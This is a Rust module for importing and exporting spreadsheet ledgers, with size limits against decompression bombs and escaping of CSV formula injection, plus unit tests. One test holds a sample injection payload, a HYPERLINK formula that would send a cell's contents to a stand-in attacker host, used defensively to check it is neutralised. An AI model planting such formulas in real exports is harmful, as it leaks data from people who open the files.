//! Spreadsheets in and out: `.xlsx` through calamine (read) and
//! rust_xlsxwriter (write), `.csv` through the csv crate.
//!
//! Chinese Excel saves CSV as UTF-8 with a byte-order mark, or in GBK on older
//! installs; both are read. What is written is UTF-8 with the mark, which
//! Excel opens without garbling the headers.

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};

/// What a file may hold, checked before anything is allocated for it: a
/// 1.5 KB `.xlsx` can declare cell XFD1048576, or unpack to gigabytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    /// The file as uploaded.
    pub bytes: u64,
    /// An `.xlsx`'s parts once unpacked, all together (the zip directory's
    /// sizes, which the unpacking enforces).
    pub unpacked_bytes: u64,
    /// Rows, the header's included.
    pub rows: u32,
    pub columns: u32,
}

impl Limits {
    /// A ledger: a county's 20,000 elders are about 4 MB of `.xlsx` and
    /// 30 MB unpacked, in some 60 columns.
    pub const LEDGER: Limits = Limits { bytes: 20 << 20, unpacked_bytes: 200 << 20, rows: 50_000, columns: 256 };
}

/// Which limit a file went over.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Limit {
    /// In MiB.
    Bytes(u64),
    /// In MiB.
    UnpackedBytes(u64),
    Rows(u32),
    Columns(u32),
}

/// One cell as the file holds it.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    /// A number cell of a spreadsheet (phone numbers and IDs typed into
    /// Excel often arrive as these).
    Number(f64),
    Empty,
}

impl Cell {
    /// The cell as text; whole numbers without `.0` (`13904150001`).
    pub fn text(&self) -> String {
        match self {
            Cell::Text(text) => text.clone(),
            Cell::Number(number) if number.fract() == 0.0 && number.abs() < 1e15 => format!("{number:.0}"),
            Cell::Number(number) => number.to_string(),
            Cell::Empty => String::new(),
        }
    }
}

/// The formats a ledger can come in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Xlsx,
    Csv,
}

impl Format {
    /// From a file name's extension.
    pub fn of_file(name: &str) -> Option<Format> {
        let lower = name.to_ascii_lowercase();
        if lower.ends_with(".xlsx") {
            Some(Format::Xlsx)
        } else if lower.ends_with(".csv") {
            Some(Format::Csv)
        } else {
            None
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            Format::Xlsx => "xlsx",
            Format::Csv => "csv",
        }
    }

    pub fn content_type(self) -> &'static str {
        match self {
            Format::Xlsx => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            Format::Csv => "text/csv; charset=utf-8",
        }
    }
}

/// Why a file could not be read or written at all.
#[derive(Debug, thiserror::Error)]
pub enum SheetError {
    #[error("not a readable .xlsx file ({0})")]
    Xlsx(String),
    #[error("the workbook has no worksheet")]
    NoWorksheet,
    #[error("not a readable CSV file ({0})")]
    Csv(String),
    #[error("cannot write the spreadsheet: {0}")]
    Write(String),
    #[error("{}", match .0 {
        Limit::Bytes(mib) => format!("the file is larger than {mib} MB"),
        Limit::UnpackedBytes(mib) => format!("the workbook unpacks to more than {mib} MB"),
        Limit::Rows(rows) => format!("the sheet has more than {rows} rows"),
        Limit::Columns(columns) => format!("the sheet has more than {columns} columns"),
    })]
    TooLarge(Limit),
}

/// Every row of the file (of an `.xlsx`, its first worksheet), line 1 first,
/// within `limits`. Blocking work: call it off the async runtime.
pub fn read(bytes: &[u8], format: Format, limits: &Limits) -> Result<Vec<Vec<Cell>>, SheetError> {
    if bytes.len() as u64 > limits.bytes {
        return Err(SheetError::TooLarge(Limit::Bytes(limits.bytes >> 20)));
    }
    match format {
        // calamine 0.38 panics on some malformed files (a cell reference
        // whose column overflows u32, found by the ledger fuzz target): such
        // a file is unreadable, not the end of the caller.
        Format::Xlsx => std::panic::catch_unwind(|| read_xlsx(bytes, limits))
            .unwrap_or_else(|_| Err(SheetError::Xlsx("the file is malformed".into()))),
        Format::Csv => read_csv(bytes, limits),
    }
}

/// The sum of the sizes the zip directory declares for its parts.
fn unpacked_size(bytes: &[u8]) -> Result<u64, SheetError> {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).map_err(|e| SheetError::Xlsx(e.to_string()))?;
    let mut total: u64 = 0;
    for index in 0..archive.len() {
        let part = archive.by_index_raw(index).map_err(|e| SheetError::Xlsx(e.to_string()))?;
        total = total.saturating_add(part.size());
    }
    Ok(total)
}

fn read_xlsx(bytes: &[u8], limits: &Limits) -> Result<Vec<Vec<Cell>>, SheetError> {
    // The zip reader stops at each part's declared size, so this bounds
    // everything calamine unpacks (the shared strings it reads whole, too).
    if unpacked_size(bytes)? > limits.unpacked_bytes {
        return Err(SheetError::TooLarge(Limit::UnpackedBytes(limits.unpacked_bytes >> 20)));
    }
    let mut workbook = Xlsx::new(Cursor::new(bytes)).map_err(|e| SheetError::Xlsx(e.to_string()))?;
    let first = workbook.sheet_names().into_iter().next().ok_or(SheetError::NoWorksheet)?;
    // Cell by cell, never calamine's dense range: its size is the last
    // cell's position, whatever lies between.
    let mut reader = workbook.worksheet_cells_reader(&first).map_err(|e| SheetError::Xlsx(e.to_string()))?;
    let mut rows: Vec<Vec<Cell>> = Vec::new();
    while let Some(cell) = reader.next_cell().map_err(|e| SheetError::Xlsx(e.to_string()))? {
        let (row, column) = cell.get_position();
        if row >= limits.rows {
            return Err(SheetError::TooLarge(Limit::Rows(limits.rows)));
        }
        if column >= limits.columns {
            return Err(SheetError::TooLarge(Limit::Columns(limits.columns)));
        }
        let value = match Data::from(cell.get_value().clone()) {
            Data::Empty => continue,
            Data::String(text) => Cell::Text(text),
            Data::Float(number) => Cell::Number(number),
            #[allow(clippy::cast_precision_loss)]
            Data::Int(number) => Cell::Number(number as f64),
            Data::Bool(true) => Cell::Text("是".into()),
            Data::Bool(false) => Cell::Text("否".into()),
            other => Cell::Text(other.to_string()),
        };
        // Lines as Excel numbers them: rows and cells before a value are empty.
        let (row, column) = (row as usize, column as usize);
        if rows.len() <= row {
            rows.resize_with(row + 1, Vec::new);
        }
        let cells = &mut rows[row];
        if cells.len() <= column {
            cells.resize(column + 1, Cell::Empty);
        }
        cells[column] = value;
    }
    Ok(rows)
}

fn read_csv(bytes: &[u8], limits: &Limits) -> Result<Vec<Vec<Cell>>, SheetError> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let text = match std::str::from_utf8(bytes) {
        Ok(text) => std::borrow::Cow::Borrowed(text),
        Err(_) => {
            let (text, _, had_errors) = encoding_rs::GBK.decode(bytes);
            if had_errors {
                return Err(SheetError::Csv("neither UTF-8 nor GBK text".into()));
            }
            text
        }
    };
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    let mut rows = Vec::new();
    for record in reader.records() {
        let record = record.map_err(|e| SheetError::Csv(e.to_string()))?;
        if rows.len() >= limits.rows as usize {
            return Err(SheetError::TooLarge(Limit::Rows(limits.rows)));
        }
        if record.len() > limits.columns as usize {
            return Err(SheetError::TooLarge(Limit::Columns(limits.columns)));
        }
        rows.push(record.iter().map(|field| Cell::Text(as_written(field))).collect());
    }
    Ok(rows)
}

/// A spreadsheet of text cells: `rows[0]` is the header row.
pub fn write(rows: &[Vec<String>], format: Format, sheet_name: &str) -> Result<Vec<u8>, SheetError> {
    match format {
        Format::Csv => {
            let mut writer = csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec());
            for row in rows {
                writer
                    .write_record(row.iter().map(|value| inert(value).into_owned()))
                    .map_err(|e| SheetError::Write(e.to_string()))?;
            }
            writer.into_inner().map_err(|e| SheetError::Write(e.to_string()))
        }
        Format::Xlsx => write_xlsx(rows, sheet_name).map_err(|e| SheetError::Write(e.to_string())),
    }
}

/// What makes a spreadsheet read a CSV field as a formula (`=HYPERLINK(…)`,
/// `@SUM(…)`, `+…`, `-…`) or move it (tab, carriage return).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A CSV field that no spreadsheet runs: one starting like a formula gets a
/// leading `'`, which Excel and WPS show as text (OWASP's advice). `.xlsx`
/// needs none: its cells are written as strings, never formulas.
fn inert(value: &str) -> std::borrow::Cow<'_, str> {
    if value.starts_with(FORMULA_STARTS) {
        std::borrow::Cow::Owned(format!("'{value}"))
    } else {
        std::borrow::Cow::Borrowed(value)
    }
}

/// A field as it was before [`inert`]: the ledger reads back what it wrote.
fn as_written(field: &str) -> String {
    match field.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest.to_string(),
        _ => field.to_string(),
    }
}

fn write_xlsx(rows: &[Vec<String>], sheet_name: &str) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let bold = rust_xlsxwriter::Format::new().set_bold();
    // Text cells throughout: an ID or phone number must never become a number.
    let text = rust_xlsxwriter::Format::new().set_num_format("@");
    let sheet = workbook.add_worksheet();
    sheet.set_name(sheet_name)?;
    for (r, row) in rows.iter().enumerate() {
        let r = u32::try_from(r).map_err(|_| rust_xlsxwriter::XlsxError::RowColumnLimitError)?;
        for (c, value) in row.iter().enumerate() {
            let c = u16::try_from(c).map_err(|_| rust_xlsxwriter::XlsxError::RowColumnLimitError)?;
            if r == 0 {
                sheet.write_string_with_format(r, c, value, &bold)?;
            } else if !value.is_empty() {
                sheet.write_string_with_format(r, c, value, &text)?;
            }
        }
    }
    if let Some(header) = rows.first() {
        for c in 0..header.len() {
            let c = u16::try_from(c).map_err(|_| rust_xlsxwriter::XlsxError::RowColumnLimitError)?;
            sheet.set_column_width(c, 14)?;
        }
    }
    sheet.set_freeze_panes(1, 0)?;
    workbook.save_to_buffer()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn both_formats_round_trip_chinese_text_and_long_digit_strings() {
        let rows = vec![
            vec!["被探访人姓名".to_string(), "公民身份号码".to_string(), "联系电话".to_string()],
            vec!["王秀英".into(), "11010519491231002X".into(), "013904150001".into()],
            vec!["李, \"四\"".into(), String::new(), "2170478".into()],
        ];
        for format in [Format::Csv, Format::Xlsx] {
            let bytes = write(&rows, format, "台账").unwrap();
            let back = read(&bytes, format, &Limits::LEDGER).unwrap();
            let texts: Vec<Vec<String>> =
                back.iter().map(|row| row.iter().map(Cell::text).collect::<Vec<_>>()).collect();
            let mut expected = rows.clone();
            if format == Format::Xlsx {
                // An empty cell in the middle reads back empty.
                expected[2][1] = String::new();
            }
            assert_eq!(texts, expected, "{format:?}");
        }
    }

    #[test]
    fn csv_in_gbk_is_read_too() {
        let (gbk, _, _) = encoding_rs::GBK.encode("被探访人姓名,村(居)\n王秀英,锦山社区\n");
        let rows = read(&gbk, Format::Csv, &Limits::LEDGER).unwrap();
        assert_eq!(rows[1][0], Cell::Text("王秀英".into()));
        assert!(read(b"\xff\xfe\x00garbage\xff", Format::Csv, &Limits::LEDGER).is_err());
        assert!(read(b"not a zip", Format::Xlsx, &Limits::LEDGER).is_err());
    }

    #[test]
    fn whole_numbers_read_as_text_lose_their_decimal_point() {
        assert_eq!(Cell::Number(13_904_150_001.0).text(), "13904150001");
        assert_eq!(Cell::Number(1200.5).text(), "1200.5");
    }

    /// A workbook holding `cells` (row, column, text), as Excel would save it.
    fn workbook(cells: &[(u32, u16, &str)]) -> Vec<u8> {
        let mut workbook = rust_xlsxwriter::Workbook::new();
        let sheet = workbook.add_worksheet();
        for (row, column, text) in cells {
            sheet.write_string(*row, *column, *text).unwrap();
        }
        workbook.save_to_buffer().unwrap()
    }

    #[test]
    fn a_small_file_that_declares_a_huge_sheet_is_refused_before_anything_is_allocated() {
        // Cells A1 and XFD1048576: calamine's dense range would be 2^34 cells.
        let corners = workbook(&[(0, 0, "姓名"), (1_048_575, 16_383, "x")]);
        assert!(corners.len() < 10_000, "{} bytes", corners.len());
        assert_eq!(
            read(&corners, Format::Xlsx, &Limits::LEDGER).unwrap_err().to_string(),
            "the sheet has more than 50000 rows"
        );
        let wide = workbook(&[(0, 0, "姓名"), (0, 16_383, "x")]);
        assert_eq!(
            read(&wide, Format::Xlsx, &Limits::LEDGER).unwrap_err().to_string(),
            "the sheet has more than 256 columns"
        );
        // Within the limits, the far cell is where Excel shows it.
        let far = workbook(&[(0, 0, "姓名"), (9, 3, "x")]);
        let rows = read(&far, Format::Xlsx, &Limits::LEDGER).unwrap();
        assert_eq!((rows.len(), rows[9].len(), rows[9][3].text()), (10, 4, "x".to_string()));
        assert_eq!(rows[5], Vec::<Cell>::new());
    }

    #[test]
    fn a_workbook_that_unpacks_past_the_limit_or_a_file_too_big_is_refused() {
        let bytes = workbook(&[(0, 0, &"长".repeat(10_000))]);
        let small = Limits { unpacked_bytes: 20 << 10, ..Limits::LEDGER };
        assert!(matches!(read(&bytes, Format::Xlsx, &small), Err(SheetError::TooLarge(Limit::UnpackedBytes(0)))));
        let tiny = Limits { bytes: 1_000, ..Limits::LEDGER };
        assert!(matches!(read(&bytes, Format::Xlsx, &tiny), Err(SheetError::TooLarge(Limit::Bytes(0)))));
        assert!(read(&bytes, Format::Xlsx, &Limits::LEDGER).is_ok());
    }

    #[test]
    fn a_file_that_makes_the_xlsx_reader_panic_is_refused_as_malformed() {
        // Found by `cargo fuzz run ledger`: a cell reference like
        // "AAAAAAAAAAAA1" overflows calamine's column arithmetic.
        let found = include_bytes!("fixtures/calamine-overflow.xlsx");
        let read = read(found, Format::Xlsx, &Limits::LEDGER);
        // With overflow checks (debug builds, the fuzzer) calamine panics;
        // without, its arithmetic wraps. Either way the caller carries on.
        if cfg!(debug_assertions) {
            assert_eq!(read.unwrap_err().to_string(), "not a readable .xlsx file (the file is malformed)");
        }
    }

    #[test]
    fn a_csv_with_too_many_rows_or_columns_is_refused() {
        let narrow = Limits { rows: 3, columns: 4, ..Limits::LEDGER };
        assert!(read(b"a,b\n1,2\n3,4\n", Format::Csv, &narrow).is_ok());
        assert!(matches!(
            read(b"a,b\n1,2\n3,4\n5,6\n", Format::Csv, &narrow),
            Err(SheetError::TooLarge(Limit::Rows(3)))
        ));
        assert!(matches!(read(b"a,b,c,d,e\n", Format::Csv, &narrow), Err(SheetError::TooLarge(Limit::Columns(4)))));
    }

    #[test]
    fn a_csv_export_runs_no_formula_and_reads_back_as_written() {
        let rows = vec![
            vec!["姓名".to_string(), "电话".to_string()],
            vec!["=HYPERLINK(\"http://evil.example/\"&B2,\"点击\")".to_string(), "+8613904150001".to_string()],
            vec!["@SUM(1+1)".to_string(), "-1".to_string()],
            vec!["\tTab".to_string(), "\rCR".to_string()],
            vec!["王秀英".to_string(), "'quoted".to_string()],
        ];
        let bytes = write(&rows, Format::Csv, "台账").unwrap();
        let text = String::from_utf8(bytes.clone()).unwrap();
        for line in text.lines().skip(1) {
            for field in line.split(',') {
                let field = field.trim_start_matches('"');
                assert!(!field.starts_with(FORMULA_STARTS), "a field a spreadsheet would run: {field:?} in {text:?}");
            }
        }
        assert!(text.contains("'=HYPERLINK") && text.contains("'@SUM(1+1)") && text.contains("'+86"), "{text}");
        let back = read(&bytes, Format::Csv, &Limits::LEDGER).unwrap();
        let back: Vec<Vec<String>> = back.iter().map(|row| row.iter().map(Cell::text).collect()).collect();
        assert_eq!(back, rows, "what was written reads back");
    }
}
